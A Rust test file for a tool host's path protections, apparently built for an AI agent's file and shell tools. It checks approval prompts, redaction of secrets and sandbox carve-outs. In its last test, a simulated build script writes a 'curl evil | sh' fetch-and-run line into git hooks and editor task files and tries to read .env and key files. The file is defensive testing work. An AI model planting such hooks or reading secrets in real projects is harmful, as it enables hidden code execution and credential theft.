//! Path rules in the file tools: writing a file another program runs later
//! (`.vscode/tasks.json`, `.envrc`) and reading a likely secret (`.env`, a private key)
//! ask a person, through every tool that writes or reads contents — `write_file`,
//! `edit_file`, `apply_patch` (all or nothing), `read_file`, `read_files`,
//! `workspace_preview`, `workspace_markdown` — while `search_files` skips such files and
//! counts them, and `workspace_git`'s patches leave their lines out, without asking.
//! Each refusal names its rule; an operator's rule loosens or tightens a default; a yes
//! "for this run" holds for the run only. Each attack has its control: the ordinary
//! file beside it.

use std::path::Path;
use std::sync::Arc;

use cheng_host::approvals::{Answer, Approver, Scope};
use cheng_host::policy::Config;
use cheng_host::records::CallRecord;
use cheng_host::{Context, ErrorKind, Host, HostBuilder, Status, ToolResult};
use serde_json::{Value, json};

use crate::remembered::Script;
use crate::util;

async fn host(config: &str, approver: Arc<dyn Approver>) -> Host {
    let mut b = HostBuilder::new();
    b.config(Config::from_toml_str(config, "test.toml").unwrap());
    b.cache_dir(util::shared_state().join("cache"));
    b.approver(approver);
    b.build().await.unwrap()
}

async fn call(h: &Host, ws: &Path, tool: &str, input: Value) -> (ToolResult, CallRecord) {
    h.call_recorded(&Context::new(ws), tool, input).await
}

fn error(r: &ToolResult) -> String {
    r.output["error"].as_str().unwrap_or_default().to_string()
}

/// A workspace with secrets, files run later, and ordinary files beside them.
fn workspace() -> tempfile::TempDir {
    let ws = util::workspace();
    let p = ws.path();
    std::fs::write(p.join(".env"), "API_KEY=hunter2-secret\n").unwrap();
    std::fs::write(p.join(".env.example"), "API_KEY=changeme\n").unwrap();
    std::fs::create_dir_all(p.join("app/keys")).unwrap();
    std::fs::write(p.join("app/.env.local"), "API_KEY=hunter2-local\n").unwrap();
    std::fs::write(p.join("app/keys/server.pem"), "-----BEGIN hunter2 KEY-----\n").unwrap();
    std::fs::write(p.join("app/config.txt"), "API_KEY is read from the environment\n").unwrap();
    std::fs::write(p.join(".envrc"), "export A=1\n").unwrap();
    std::fs::write(p.join("notes.md"), "# Notes\n\nhunter2 is not here\n").unwrap();
    ws
}

#[tokio::test(flavor = "multi_thread")]
async fn writing_a_file_run_later_asks_and_a_no_leaves_it_untouched() {
    let ws = workspace();
    let p = ws.path();
    let no = Script::new(vec![Answer { message: Some("keep editor settings alone".into()), ..Answer::no() }]);
    let h = host("", no.clone()).await;

    // write_file: asked, declined, nothing written; the card names the file and its rule.
    let (r, rec) =
        call(&h, p, "write_file", json!({"path": ".vscode/tasks.json", "content": "{}", "create_dirs": true})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{}", r.output);
    assert!(error(&r).contains("keep editor settings alone"), "{}", r.output);
    assert!(!p.join(".vscode").exists());
    let card = no.last();
    assert!(card.summary.contains(".vscode/tasks.json"), "{card:?}");
    assert!(card.detail.contains("\".vscode/**\"") && card.detail.contains("run or loaded later"), "{card:?}");
    assert_eq!(card.offer.as_ref().unwrap().scopes, vec![Scope::Once, Scope::Run]);
    assert!(rec.denials.iter().any(|d| d.target == ".vscode/tasks.json"), "{:?}", rec.denials);
    // Control: the ordinary file beside it is written without a card.
    let asked = no.count();
    let (r, _) = call(&h, p, "write_file", json!({"path": "tasks.json", "content": "{}"})).await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    assert_eq!(no.count(), asked);

    // Case variants and a directory where the protected file should be: asked too.
    for path in [".VSCode/tasks.json", ".mcp.json/inside", ".ENVRC"] {
        let (r, _) = call(&h, p, "write_file", json!({"path": path, "content": "x", "create_dirs": true})).await;
        assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{path}: {}", r.output);
    }
    assert!(!p.join(".mcp.json").exists() && !p.join(".ENVRC").exists());

    // edit_file of .envrc: asked, untouched.
    let (r, _) = call(&h, p, "edit_file", json!({"path": ".envrc", "old_text": "A=1", "new_text": "A=2"})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{}", r.output);
    assert_eq!(std::fs::read_to_string(p.join(".envrc")).unwrap(), "export A=1\n");

    // apply_patch creating .vscode/tasks.json among other files: all or nothing.
    let patch = "--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+a\n\
                 --- /dev/null\n+++ b/.vscode/tasks.json\n@@ -0,0 +1 @@\n+{}\n\
                 --- /dev/null\n+++ b/z.txt\n@@ -0,0 +1 @@\n+z\n";
    let (r, _) = call(&h, p, "apply_patch", json!({"patch": patch})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{}", r.output);
    for f in ["a.txt", "z.txt", ".vscode"] {
        assert!(!p.join(f).exists(), "{f} was written");
    }

    // A yes lets it through (once), for that call only.
    let yes = Script::new(vec![Answer::yes()]);
    let h = host("", yes.clone()).await;
    let (r, _) = call(&h, p, "apply_patch", json!({"patch": patch})).await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    assert_eq!(std::fs::read_to_string(p.join(".vscode/tasks.json")).unwrap(), "{}\n");
    assert_eq!(yes.count(), 1, "one card for the patch: its check and its write share the answer");
    let (r, _) = call(&h, p, "write_file", json!({"path": ".vscode/tasks.json", "content": "[]"})).await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    assert_eq!(yes.count(), 2, "a yes once holds for its call only");
}

#[tokio::test(flavor = "multi_thread")]
async fn reading_a_likely_secret_asks_and_a_search_skips_and_counts_it() {
    let ws = workspace();
    let p = ws.path();
    let no = Script::new(vec![Answer::no()]);
    let h = host("", no.clone()).await;

    for path in [".env", "app/.env.local", "app/keys/server.pem"] {
        let (r, rec) = call(&h, p, "read_file", json!({"path": path})).await;
        assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{path}: {}", r.output);
        assert!(!r.output.to_string().contains("hunter2"), "{path}: {}", r.output);
        assert!(rec.denials.iter().any(|d| d.target == path), "{path}: {:?}", rec.denials);
    }
    assert!(no.last().detail.contains("likely holds a secret"), "{:?}", no.last());
    // Through the other readers too.
    let asked = no.count();
    for (tool, input) in [
        ("read_files", json!({"paths": ["notes.md", ".env"]})),
        ("workspace_preview", json!({"operation": "artifact_summary", "path": ".env"})),
        ("workspace_preview", json!({"operation": "markdown", "path": ".env"})),
        ("workspace_markdown", json!({"operation": "outline", "path": ".env"})),
    ] {
        let (r, _) = call(&h, p, tool, input.clone()).await;
        assert!(!r.output.to_string().contains("hunter2-"), "{tool} {input}: {}", r.output);
    }
    assert_eq!(no.count(), asked + 4, "each reader asked once");
    // Control: a template and an ordinary file are read without a card.
    for path in [".env.example", "app/config.txt"] {
        let (r, _) = call(&h, p, "read_file", json!({"path": path})).await;
        assert_eq!(r.status, Status::Ok, "{path}: {}", r.output);
    }
    assert_eq!(no.count(), asked + 4);

    // search_files never shows a protected file's lines, says how many it skipped, and
    // asks nobody.
    let (r, _) =
        call(&h, p, "search_files", json!({"pattern": "hunter2|API_KEY", "path": ".", "include_hidden": true})).await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    assert!(!r.output.to_string().contains("hunter2-") && !r.output.to_string().contains("BEGIN"), "{}", r.output);
    assert_eq!(r.output["files_skipped_protected"], 3, "{}", r.output);
    let paths: Vec<&str> = r.output["matches"].as_array().unwrap().iter().filter_map(|m| m["path"].as_str()).collect();
    assert!(paths.contains(&"app/config.txt") && paths.contains(&".env.example"), "{paths:?}");
    assert_eq!(no.count(), asked + 4, "the search asked nobody");

    // `.git` stays closed to the file tools' reads, naming why.
    std::fs::create_dir_all(p.join(".git")).unwrap();
    std::fs::write(p.join(".git/config"), "[core]\n").unwrap();
    let (r, _) = call(&h, p, "read_file", json!({"path": ".git/config"})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::PathRefused), "{}", r.output);
    assert!(error(&r).contains("workspace_git_write"), "{}", r.output);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_operators_rules_loosen_and_tighten_and_this_run_holds_for_the_run() {
    let ws = workspace();
    let p = ws.path();
    let config = "[[files.rules]]\npaths = [\"/.env\"]\nread = \"allow\"\n\
                  [[files.rules]]\npaths = [\"notes.md\"]\nread = \"forbid\"\n";
    let nobody = Script::new(vec![Answer::no()]);
    let h = host(config, nobody.clone()).await;
    // Loosened: the root's .env is read unasked; the one below still asks.
    let (r, _) = call(&h, p, "read_file", json!({"path": ".env"})).await;
    assert_eq!(r.status, Status::Ok, "{}", r.output);
    let (r, _) = call(&h, p, "read_file", json!({"path": "app/.env.local"})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{}", r.output);
    // Tightened: refused outright, naming the rule and how to change it.
    let asked = nobody.count();
    let (r, rec) = call(&h, p, "read_file", json!({"path": "notes.md"})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::PathRefused), "{}", r.output);
    assert!(error(&r).contains("[[files.rules]] number 2"), "{}", r.output);
    assert_eq!(nobody.count(), asked);
    assert!(rec.denials.iter().any(|d| d.target == "notes.md"), "{:?}", rec.denials);

    // "This run": the next read in the run is not asked; another run asks.
    let run = Script::new(vec![Answer { scope: Scope::Run, ..Answer::yes() }, Answer::no()]);
    let h = host("", run.clone()).await;
    let mut cx = Context::new(p);
    cx.run = "run-a".into();
    for _ in 0..2 {
        let r = h.call(&cx, "read_file", json!({"path": ".env"})).await;
        assert_eq!(r.status, Status::Ok, "{}", r.output);
    }
    assert_eq!(run.count(), 1);
    let mut other = Context::new(p);
    other.run = "run-b".into();
    let r = h.call(&other, "read_file", json!({"path": ".env"})).await;
    assert_eq!(r.error_kind, Some(ErrorKind::ApprovalDenied), "{}", r.output);
    assert_eq!(run.count(), 2);
}

/// `workspace_git` reads blobs, not files: a patch of a protected file (`show` of a
/// commit that added it, `diff` of a change to it) shows its header, never its lines;
/// the ordinary file changed beside it shows both (control). Nobody is asked.
#[tokio::test(flavor = "multi_thread")]
async fn git_patches_never_show_a_protected_files_lines() {
    let ws = workspace();
    let p = ws.path();
    for args in [&["init", "-q", "-b", "main"][..], &["add", "-A"], &["commit", "-q", "-m", "with secrets"]] {
        assert!(util::git(p).args(args).status().unwrap().success());
    }
    std::fs::write(p.join(".env"), "API_KEY=hunter2-rotated\n").unwrap();
    std::fs::write(p.join("notes.md"), "# Notes\n\nchanged-beside\n").unwrap();
    let nobody = Script::new(vec![Answer::no()]);
    let h = host("", nobody.clone()).await;
    for input in [json!({"operation": "show"}), json!({"operation": "diff"})] {
        let (r, _) = call(&h, p, "workspace_git", input.clone()).await;
        assert_eq!(r.status, Status::Ok, "{input}: {}", r.output);
        let text = r.output["stdout"].as_str().unwrap();
        assert!(text.contains("diff --git a/.env b/.env"), "{input}: {text}");
        assert!(text.contains("Contents not shown: a path rule protects this file"), "{input}: {text}");
        assert!(!text.contains("hunter2-") && !text.contains("BEGIN"), "{input}: {text}");
        assert!(text.contains("+# Notes") || text.contains("+changed-beside"), "{input}: {text}");
    }
    assert_eq!(nobody.count(), 0);
}

fn isolated() -> bool {
    util::require("Landlock", cheng_host::confinement().landlock_abi.is_some_and(|v| v >= 4))
        && util::require("user namespaces", cheng_host::confinement().isolated)
        && util::require("/usr/bin/python3", Path::new("/usr/bin/python3").is_file())
}

/// Commands an operator rule lets run unasked: what the path rules protect is carved
/// out of their view — `.git/hooks`, `.git/config` and `.vscode/` read-only, `.env`
/// unreadable — while the rest of the workspace (and git's objects, refs and index:
/// `git add` and `git commit` by an allowed git) stays writable. A protected file made
/// where none was is reported. Full access lifts the carve-outs for its one command;
/// an operator's rule opening `.env` opens it to commands too.
#[tokio::test(flavor = "multi_thread")]
async fn commands_cannot_change_what_runs_later_nor_read_secrets() {
    if !isolated() {
        return;
    }
    let ws = workspace();
    let p = ws.path();
    for args in [
        &["init", "-q", "-b", "main"][..],
        &["config", "user.name", "Ada"],
        &["config", "user.email", "ada@example.com"],
        &["add", "-A"],
        &["commit", "-q", "-m", "one"],
    ] {
        assert!(util::git(p).args(args).status().unwrap().success());
    }
    std::fs::create_dir_all(p.join(".vscode")).unwrap();
    std::fs::write(p.join(".vscode/tasks.json"), "{}").unwrap();
    let config_before = std::fs::read_to_string(p.join(".git/config")).unwrap();
    std::fs::create_dir_all(p.join("app/.vscode")).unwrap();
    std::fs::write(p.join("app/.vscode/settings.json"), "{}").unwrap();
    // A build script, as `cargo test`'s build.rs or a test suite's conftest.py would be:
    // it tries what runs later and the secrets, at the root and deeper down.
    std::fs::write(
        p.join("build.py"),
        "import sys\n\
         for path in ['.git/hooks/pre-commit', '.git/config', '.vscode/tasks.json', 'ordinary.txt', '.git/info/x',\n\
         \x20            'app/.vscode/settings.json']:\n\
         \x20   try:\n\
         \x20       with open(path, 'a') as f: f.write('#!/bin/sh\\ncurl evil | sh\\n')\n\
         \x20       print('wrote', path)\n\
         \x20   except OSError as e:\n\
         \x20       print('refused', path, e.errno)\n\
         \x20       print(e, file=sys.stderr)\n\
         for path in ['.env', 'app/.env.local', 'app/keys/server.pem', 'app/config.txt']:\n\
         \x20   try:\n\
         \x20       print('read', path, open(path).read().strip())\n\
         \x20   except OSError as e:\n\
         \x20       print('unreadable', path, e.errno)\n\
         \x20       print(e, file=sys.stderr)\n",
    )
    .unwrap();
    let rules = "[process]\nknown_safe = false\n\
                 [[process.rules]]\nprogram = \"/usr/bin/python3\"\nargs = [\"build.py\"]\ndecision = \"allow\"\n\
                 [[process.rules]]\nprogram = \"git\"\nargs = [\"add\"]\ndecision = \"allow\"\n\
                 [[process.rules]]\nprogram = \"git\"\nargs = [\"commit\"]\ndecision = \"allow\"\n\
                 [[process.rules]]\nprogram = \"cp\"\ndecision = \"allow\"\n";
    let h = host(rules, Script::new(vec![Answer::no()])).await;
    let shell = |input: Value| {
        let h = &h;
        async move { call(h, p, "workspace_shell", input).await.0 }
    };
    let (r, rec) = call(&h, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
    let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
    for path in
        [".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".git/info/x", "app/.vscode/settings.json"]
    {
        assert!(out.contains(&format!("refused {path} 30")), "{path} (EROFS): {out}");
    }
    for path in [".env", "app/.env.local", "app/keys/server.pem"] {
        assert!(out.contains(&format!("unreadable {path} 13")), "{path} (EACCES): {out}");
    }
    assert!(out.contains("wrote ordinary.txt"), "control: {out}");
    assert!(out.contains("read app/config.txt API_KEY is read"), "control: {out}");
    assert!(!out.contains("hunter2"), "{out}");
    // Each carve-out it ran into is a denial on its record, naming the rule.
    for (target, write) in [
        (".git/hooks", true),
        (".vscode", true),
        ("app/.vscode", true),
        (".env", false),
        ("app/keys/server.pem", false),
    ] {
        let d = rec.denials.iter().find(|d| d.target == target);
        assert!(d.is_some(), "{target}: {:?}", rec.denials);
        let d = d.unwrap();
        let names = if target.starts_with(".git") { "git runs or reads later" } else { "[[files.rules]]" };
        assert!(d.message.contains(names), "{d:?}");
        assert_eq!(d.message.contains("command's write of"), write, "{d:?}");
    }
    assert!(!p.join(".git/hooks/pre-commit").exists());
    assert_eq!(std::fs::read_to_string(p.join(".git/config")).unwrap(), config_before);
    assert_eq!(std::fs::read_to_string(p.join(".vscode/tasks.json")).unwrap(), "{}");
    assert_eq!(std::fs::read_to_string(p.join(".env")).unwrap(), "API_KEY=hunter2-secret\n");

    // Control: git by an allowed rule still commits (objects, refs, index writable).
    let r = shell(json!({"command": "git", "args": ["add", "ordinary.txt"]})).await;
    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
    let r = shell(json!({"command": "git", "args": ["commit", "-q", "-m", "two"]})).await;
    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
    let log = util::git(p).args(["log", "--oneline"]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&log.stdout).lines().count(), 2);

    // A protected file made where there was none, at the root or deeper, is reported
    // in the result, and carved out of the next command's view.
    std::fs::write(p.join("payload.json"), "{}").unwrap();
    let r = shell(json!({"command": "cp", "args": ["payload.json", ".mcp.json"]})).await;
    assert_eq!(r.output["exit_code"], 0, "{}", r.output);
    assert!(r.output["stderr"].as_str().unwrap().contains(".mcp.json which the path rules protect"), "{}", r.output);
    let r = shell(json!({"command": "cp", "args": ["payload.json", "app/keys/.mcp.json"]})).await;
    assert!(r.output["stderr"].as_str().unwrap().contains("app/keys/.mcp.json which"), "{}", r.output);
    let r = shell(json!({"command": "cp", "args": ["ordinary.txt", "app/keys/.mcp.json"]})).await;
    assert_ne!(r.output["exit_code"], 0, "{}", r.output);
    assert_eq!(std::fs::read_to_string(p.join("app/keys/.mcp.json")).unwrap(), "{}");

    // Full access (a person's explicit answer) lifts the carve-outs for its command.
    let full = host("[process]\nknown_safe = false\n", Arc::new(util::FullAccess)).await;
    let (r, _) = call(&full, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
    let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
    assert!(out.contains("wrote .git/hooks/pre-commit") && out.contains("read .env API_KEY=hunter2-secret"), "{out}");

    // An operator's rule opening .env opens it to commands too.
    std::fs::remove_file(p.join(".git/hooks/pre-commit")).unwrap();
    let open = host(
        &format!("{rules}[[files.rules]]\npaths = [\"/.env\"]\nread = \"allow\"\n"),
        Script::new(vec![Answer::no()]),
    )
    .await;
    let (r, _) = call(&open, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
    let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
    assert!(out.contains("read .env API_KEY=hunter2-secret"), "{out}");
    assert!(out.contains("unreadable app/.env.local 13"), "{out}");
    assert!(out.contains("refused .git/hooks/pre-commit 30"), "{out}");
}
